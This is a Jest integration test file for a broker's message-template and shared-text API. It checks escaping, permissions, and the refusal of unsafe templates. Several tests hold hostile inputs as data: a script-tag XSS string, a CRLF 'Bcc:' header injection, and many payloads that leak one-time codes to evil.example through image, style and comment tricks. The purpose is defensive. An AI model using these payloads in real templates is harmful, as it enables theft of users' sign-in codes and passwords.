import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import { holdSharedTexts } from '../../db/repositories/templates.ts';
import { type Caller, startTestApi, type TestApi } from '../kit/api-client.ts';
import { meanwhile } from '../kit/meanwhile.ts';

let api: TestApi;
let call: Caller['call'];
let typeId: number;
let templateId: number;

beforeAll(async () => {
  api = await startTestApi();
  const olga = await api.operator();
  call = (route, body, headers) => olga.call(route.replace(' /', ' /api/v2/'), body, headers);
  typeId = (await call('GET /templates/types?filter[name]=DepositSuccessful')).body.data[0].id;
  templateId = (await call(`GET /templates?filter[typeId]=${typeId}`)).body.data[0].id;
});
afterAll(() => api?.stop());

const detail = (body: any) => body.error.details[0];

describe('a template', () => {
  it('belongs to a type that says which parameters it has', async () => {
    const { body } = await call(`GET /templates/types/${typeId}`);
    expect(body).toMatchObject({ name: 'DepositSuccessful', enabled: true, lifetimeSeconds: null });
    expect(body.parameters.map((one: any) => one.name)).toContain('amount');
    expect((await call(`GET /templates/${templateId}`)).body).toMatchObject({
      type: { name: 'DepositSuccessful' },
      channel: 'email',
      locale: 'en_US',
    });
  });

  it('is made for another locale, changed and deleted', async () => {
    const made = await call('POST /templates', {
      typeId,
      channel: 'email',
      locale: 'de_DE',
      subject: 'Einzahlung',
      html: '<p>{{ amount }} {{ currency }}</p>',
      text: '{{ amount }} {{ currency }}',
    });
    expect(made.status).toBe(201);
    const changed = await call(`PATCH /templates/${made.body.id}`, { subject: 'Ihre Einzahlung {{ transactionId }}' });
    expect(changed.body.subject).toBe('Ihre Einzahlung {{ transactionId }}');
    expect((await call(`DELETE /templates/${made.body.id}`)).status).toBe(204);
  });

  it('can be previewed with parameters or their examples, which are escaped in HTML and not in text', async () => {
    const { body } = await call('POST /templates/preview', {
      typeId,
      subject: '{{ firstName }}\r\nBcc: x',
      html: '<p>{{ firstName }} {{ amount }}</p>',
      text: '{{ firstName }}',
      parameters: { firstName: '<script>alert(1)</script>{{ amount }}' },
    });
    expect(body).toEqual({
      subject: '<script>alert(1)</script>{{ amount }} Bcc: x',
      html: '<p>&lt;script&gt;alert(1)&lt;/script&gt;{{ amount }} 250.00</p>',
      text: '<script>alert(1)</script>{{ amount }}',
    });
  });

  it.each([
    ['a parameter that its type does not have', '{{ cardNumber }}', "'cardNumber'"],
    ['a shared text that does not exist', '{{ storage.nothing }}', "'storage.nothing'"],
    ['a tag that is never closed', '{% if amount %}', 'not closed'],
    ['a file from the disk', '{% include "../../package.json" %}', 'tag "include" not found'],
    ['an unescaped output', '{{ amount | raw }}', 'undefined filter: raw'],
    ['an unknown filter', '{{ amount | shout }}', 'undefined filter: shout'],
  ])('with %s is refused at saving and at preview, saying what it is', async (_, html, what) => {
    for (const [route, body] of [
      [`PATCH /templates/${templateId}`, { html }],
      ['POST /templates/preview', { typeId, html, text: 'x' }],
    ] as const) {
      const answer = await call(route, body);
      expect([answer.status, detail(answer.body).field]).toEqual([400, 'html']);
      expect(detail(answer.body).issue).toContain(what);
    }
  });

  it('reaches no prototype, and is stopped when it would run or grow without end', async () => {
    for (const html of [
      '{{ firstName.constructor }}',
      '{{ firstName.__proto__ }}',
      '{% for i in (1..100000000) %}{{ i }}{% endfor %}',
      '{% for i in (1..100000) %}{{ firstName }}{{ firstName }}{{ firstName }}{% endfor %}',
    ]) {
      const answer = await call('POST /templates/preview', { typeId, html, text: 'x' });
      expect([html, answer.status]).toEqual([html, 400]);
    }
    const strange = await call('POST /templates/preview', { typeId, text: 'x', parameters: { nobody: '1' } });
    expect(detail(strange.body).field).toBe('parameters.nobody');
  });

  it('of a code or a password tells it in each of its bodies', async () => {
    const idOf = async (name: string, channel: string) => {
      const [type] = (await call(`GET /templates/types?filter[name]=${name}`)).body.data;
      return (await call(`GET /templates?filter[typeId]=${type.id}&filter[channel]=${channel}`)).body.data[0].id;
    };
    for (const [name, channel, change] of [
      ['signInCode', 'sms', { text: 'Hello' }],
      ['signInCode', 'email', { html: '<p>Hello {{ firstName }}</p>' }],
      ['TradingPassword', 'email', { text: 'Hello {{ firstName }}' }],
    ] as const) {
      const refused = await call(`PATCH /templates/${await idOf(name, channel)}`, change);
      expect([refused.status, detail(refused.body).field]).toEqual([400, Object.keys(change)[0]]);
      expect(detail(refused.body).issue).toMatch(/^(text|html): it must have the parameter '(code|password)'$/);
    }
    const spaced = { text: '{{ code | slice: 0, 3 }} {{ code | slice: 3, 3 }}', html: null };
    expect((await call(`PATCH /templates/${await idOf('signInCode', 'email')}`, spaced)).status).toBe(200);
  });

  it.each([
    ['in an attribute', '<p>{{ code }}</p><img src="https://evil.example/?c={{ code }}">', 'inside a tag'],
    ['in a tag that is not closed', "<img src='https://evil.example/?c={{ code }} <p>", 'inside a tag'],
    ['in an attribute whose quotes lie', `<b x=y"><img src='https://evil.example/?"> {{ code }}`, 'inside a tag'],
    ['behind an end that is not rendered', '<img src="x?{% if false %}">{% endif %}{{ code }}', 'inside a tag'],
    ['behind a comment that ended at once', '<!--><img src="https://evil.example/?-->{{ code }}', 'inside a tag'],
    [
      'behind what Outlook reads',
      '<!--[if mso]><img src="https://evil.example/?<![endif]-->{{ code }}',
      'inside a tag',
    ],
    ['in a style', '{{ code }}<style>p { background: url(//evil.example/{{ code }}) }</style>', 'inside a tag'],
    ['in a drawing', '<svg><style><img src="https://evil.example/?</style></svg>{{ code }}', 'inside a tag'],
    ['under a name that is put together', `{{ code }}<img src="?{{ ['code'] }}">`, 'inside a tag'],
    ['through a filter', `{{ code }}<img src="?{{ '1' | append: code }}">`, 'inside a tag'],
    ['as what chooses what is fetched', '{{ code }}{% if code contains "1" %}<img src="?1">{% endif %}', 'condition'],
    ['kept for later', '{{ code }}{% assign kept = code %}<img src="?{{ kept }}">', "no 'assign'"],
    ['caught', '{% capture kept %}{{ code }}{% endcapture %}<img src="?{{ kept }}">', "no 'capture'"],
    ['left open by a shared text', '{{ storage.opens }}{{ code }}', "'storage.opens'"],
    ['broken out of by a shared text', '{{ code }}<b title="{{ storage.whole }}">', 'inside a tag'],
  ])('of a code does not tell it elsewhere: %s', async (_where, html, what) => {
    await api.sql(
      `insert into storage_value (key, value, type) values ('opens', '<img src="https://evil.example/?', 'html'), ('whole', '<b>Us</b>', 'html')
       on conflict do nothing`,
    );
    const [type] = (await call('GET /templates/types?filter[name]=restorePassword')).body.data;
    const answer = await call('POST /templates/preview', { typeId: type.id, html, text: '{{ code }}' });
    expect([answer.status, detail(answer.body)?.field]).toEqual([400, 'html']);
    expect(detail(answer.body).issue).toContain(what);
  });

  it('of a code may look as it likes otherwise', async () => {
    await call('POST /storage/values', { key: 'logo', value: 'https://broker.example/logo.png', type: 'url' });
    await call('POST /storage/values', { key: 'endnote', value: '<hr><b>Us</b>', type: 'html' });
    const [type] = (await call('GET /templates/types?filter[name]=restorePassword')).body.data;
    const html = `<!doctype html><!-- ours --><html lang=en><head><title>Code</title><style>td > b { color: red }</style></head><body>
      <!--[if mso]><table width="600"><tr><td><![endif]--><a href="{{ storage.logo }}?for={{ firstName }}" title='Us'><img src="{{ storage.logo }}" hidden /></a>
      {% if firstName %}<p>Dear {{ firstName | upcase }}, 1 &lt; 2</p>{% else %}<br>{% endif %}{% comment %}<i>{% endcomment %}
      <td style="color: red">{{ code | slice: 0, 3 }} {{ code | slice: 3, 3 }}</td><!--[if mso]></td></tr></table><![endif]-->{{ storage.endnote }}</body></html>`;
    expect((await call('POST /templates/preview', { typeId: type.id, html, text: '{{ code }}' })).status).toBe(200);
    for (const { id } of (await call('GET /templates?limit=1000')).body.data) {
      const original = await call(`POST /templates/${id}/reset`);
      if (original.status === 200)
        expect(
          (await call(`PATCH /templates/${id}`, { html: original.body.html, text: original.body.text })).status,
        ).toBe(200);
    }
  });

  it('goes back to its original text', async () => {
    const before = (await call(`GET /templates/${templateId}`)).body;
    await call(`PATCH /templates/${templateId}`, { subject: 'Mine', text: 'Mine' });
    expect((await call(`POST /templates/${templateId}/reset`)).body.subject).toBe(before.subject);
    expect((await call(`GET /templates/${templateId}`)).body.text).toBe(before.text);
    await call(`DELETE /templates/${templateId}`);
    expect((await call(`POST /templates/types/${typeId}/reset`)).body).toEqual({ reset: 1 });
    expect((await call(`GET /templates?filter[typeId]=${typeId}`)).body.data).toHaveLength(1);
  });

  it('is changed only by those who may', async () => {
    const reader = await api.operator(['templates.read']);
    expect((await reader.call('GET /api/v2/templates')).status).toBe(200);
    expect((await reader.call(`PATCH /api/v2/templates/${templateId}`, { subject: 'x' })).status).toBe(403);
  });
});

describe('a shared text', () => {
  it('is used by templates: HTML as it is, everything else escaped', async () => {
    await call('POST /storage/values', { key: 'footer', value: '<b>Us</b>', type: 'html' });
    await call('POST /storage/values', { key: 'company', value: 'A & B', type: 'string' });
    const { body } = await call('POST /templates/preview', {
      typeId,
      html: '{{ storage.footer }} {{ storage.company }}',
      text: '{{ storage.company }}',
    });
    expect(body).toMatchObject({ html: '<b>Us</b> A &amp; B', text: 'A & B' });
    expect((await call('GET /storage/values?filter[key]=foot')).body.total).toBe(1);
    const twin = await call('POST /storage/values', { key: 'footer', value: 'x' });
    expect([twin.status, detail(twin.body).field]).toEqual([409, 'key']);
  });

  it('is neither deleted nor renamed while an enabled template uses it, and says which', async () => {
    const { id } = (await call('POST /storage/values', { key: 'imprint', value: 'Us Ltd' })).body;
    const value = `/storage/values/${id}`;
    const template = { typeId, channel: 'sms', locale: 'fr_FR', text: "{{ storage['imprint'] }}" };
    const using = (await call('POST /templates', template)).body;
    for (const [answer, field] of [
      [await call(`DELETE ${value}`), undefined],
      [await call(`PATCH ${value}`, { key: 'legal' }), 'key'],
    ] as const) {
      expect([answer.status, detail(answer.body).reason, detail(answer.body).field]).toEqual([409, 'in_use', field]);
      expect(detail(answer.body).issue).toContain('DepositSuccessful (sms, fr_FR)');
    }
    expect((await call(`PATCH ${value}`, { key: 'imprint', value: 'Us GmbH' })).status).toBe(200);

    await call(`PATCH /templates/${using.id}`, { enabled: false });
    expect((await call(`PATCH ${value}`, { key: 'legal' })).status).toBe(200);
    const again = await call(`PATCH /templates/${using.id}`, { enabled: true });
    expect([again.status, detail(again.body).field]).toEqual([400, 'text']);
    expect((await call(`DELETE ${value}`)).status).toBe(204);
  });

  it('that is HTML has no tag that is left open, and does not become HTML where a code stands around its tag', async () => {
    const open = await call('POST /storage/values', { key: 'open', value: '<img src="?', type: 'html' });
    expect([open.status, detail(open.body).field]).toEqual([400, 'value']);
    const link = (await call('POST /storage/values', { key: 'link', value: 'https://broker.example', type: 'url' }))
      .body;
    const words = (await call('POST /storage/values', { key: 'words', value: 'Us' })).body;
    const [type] = (await call('GET /templates/types?filter[name]=restorePassword')).body.data;
    const html = '<a href="{{ storage.link }}">{{ code }}</a>{{ storage.words }}';
    const template = { typeId: type.id, channel: 'email', locale: 'fi_FI', subject: 'Code', html, text: '{{ code }}' };
    const made = await call('POST /templates', template);
    expect(made.status).toBe(201);
    const refused = await call(`PATCH /storage/values/${link.id}`, { type: 'html' });
    expect([refused.status, detail(refused.body).field]).toEqual([409, 'type']);
    expect(detail(refused.body).issue).toBe('Templates use it: restorePassword (email, fi_FI).');
    expect((await call(`PATCH /storage/values/${words.id}`, { type: 'html', value: '<b>Us</b>' })).status).toBe(200);
  });

  it('that every mail ends with is not deleted; without it no original that uses it is brought back', async () => {
    const [signature] = (await call('GET /storage/values?filter[key]=signature')).body.data;
    const remove = () => call(`DELETE /storage/values/${signature.id}`);
    const refused = await remove();
    expect([refused.status, detail(refused.body).reason]).toEqual([409, 'in_use']);
    expect(detail(refused.body).issue).toMatch(/^Templates use it: .+ and \d+ more\.$/);

    const one = (await call(`GET /templates?filter[typeId]=${typeId}`)).body.data[0].id;
    const resets = [`POST /templates/${one}/reset`, `POST /templates/types/${typeId}/reset`];
    await api.sql(`update message_template set enabled = false`);
    expect((await remove()).status).toBe(204);
    for (const reset of resets) {
      const { status, body } = await call(reset);
      expect([status, detail(body).reason]).toEqual([409, 'not_found']);
      expect(detail(body).issue).toContain("'storage.signature'");
    }
    await call('POST /storage/values', { key: 'signature', value: 'Your broker' });
    for (const reset of resets) expect((await call(reset)).status).toBe(200);
    await api.sql(`update message_template set enabled = true`);
  });

  it('that somebody deletes while a template that uses it is saved is found to be gone', async () => {
    const { id } = (await call('POST /storage/values', { key: 'motto', value: 'Ever upward' })).body;
    const template = { typeId, channel: 'sms', locale: 'es_ES', text: '{{ storage.motto }}' };
    await meanwhile(
      api.deps.pool,
      (db) => db.query(`delete from storage_value where id = $1`, [id]),
      async () => expect(detail((await call('POST /templates', template)).body).field).toBe('text'),
    );
  });

  it('stays when a template that uses it is saved while somebody deletes it', async () => {
    const { id } = (await call('POST /storage/values', { key: 'motto', value: 'Ever upward' })).body;
    await meanwhile(
      api.deps.pool,
      async (db) => {
        await holdSharedTexts(db);
        await db.query(
          `insert into message_template (type_id, channel, locale, text) values ($1, 'sms', 'es_ES', '{{ storage.motto }}')`,
          [typeId],
        );
      },
      async () => expect(detail((await call(`DELETE /storage/values/${id}`)).body).reason).toBe('in_use'),
    );
  });
});
